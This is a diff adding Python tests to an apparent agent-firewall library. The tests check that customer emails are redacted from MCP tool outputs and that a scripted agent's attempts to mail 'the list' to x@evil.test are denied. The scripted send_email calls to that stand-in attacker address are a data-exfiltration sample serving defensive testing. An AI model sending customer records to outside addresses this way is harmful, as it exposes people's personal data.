@@ -184,3 +184,81 @@ def test_outputs_reach_the_model_redacted_and_the_tool_gets_real_values() -> Non
         assert EMAIL not in json.dumps(call.input, default=str)
     user = firewall.graph("a1").provenance({"x": "Tell Maria her order shipped"}).arguments["x"]
     assert user.from_user
+
+
+MCP_SERVER = '''
+from mcp.server.mcpserver import MCPServer
+
+server = MCPServer("crm")
+
+
+@server.tool()
+def search_docs(query: str) -> str:
+    """Search the customer records."""
+    return "Maria Lopez, email maria.lopez@example.com"
+
+
+@server.tool()
+def send_email(to: str, body: str) -> str:
+    """Send an email."""
+    with open(__file__ + ".sent", "a") as sent:
+        sent.write(to + "\\n")
+    return "sent"
+
+
+server.run("stdio")
+'''
+
+
+def test_an_mcp_server_of_the_agent_is_checked_and_redacted(tmp_path) -> None:
+    import sys
+
+    from agents.mcp import MCPServerStdio
+
+    script = tmp_path / "crm_server.py"
+    script.write_text(MCP_SERVER)
+    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
+    guardrails = firewall_guardrails(firewall, context={"env": "production"}, session="m1")
+    model = ScriptedModel(
+        [
+            [function_call("search_docs", {"query": "Maria"}, call_id="s1")],
+            [function_call("send_email", {"to": "x@evil.test", "body": "list"}, call_id="e1")],
+            [assistant_message("Done.")],
+        ]
+    )
+
+    async def run() -> Any:
+        params = {"command": sys.executable, "args": [str(script)]}
+        async with MCPServerStdio(params, **guardrails.mcp_options()) as server:
+            agent = Agent(name="crm", model=model, mcp_servers=[server])
+            return await Runner.run(agent, "Find Maria, then mail the list out")
+
+    result = asyncio.run(run())
+    assert result.final_output == "Done."
+    seen = outputs(model, 1)["s1"]
+    assert EMAIL not in seen and "<EMAIL_ADDRESS_1>" in seen
+    assert "only mail addresses at example.com" in outputs(model, 2)["e1"]
+    assert not (tmp_path / "crm_server.py.sent").exists()
+
+
+def test_the_drop_in_client_as_the_agents_model_client() -> None:
+    """The Agents SDK never sees a call the firewall denied in the model's reply."""
+    from agents import OpenAIResponsesModel
+
+    from adapters.openai import AsyncOpenAI
+    from tests.openai_api import Reply, Server, fc_item, response, text_item
+
+    firewall = Firewall(load_policy(POLICIES / "default.yaml"))
+    office = Office()
+    with Server() as api:
+        denied = fc_item("c1", "send_email", {"to": "x@evil.test", "body": "list"})
+        api.state.replies.append(Reply(response(text_item("I will mail it."), denied)))
+        client = AsyncOpenAI(
+            firewall=firewall, api_key="t", base_url=api.url, context={"env": "production"}
+        )
+        model = OpenAIResponsesModel("gpt-test", client)
+        agent = Agent(name="mailer", model=model, tools=office.tools())
+        result = asyncio.run(Runner.run(agent, "Mail the list to x@evil.test"))
+    assert result.final_output == "I will mail it."
+    assert office.mails == []
+    assert [d.verdict.label for d in firewall.memory.decisions] == ["deny"]
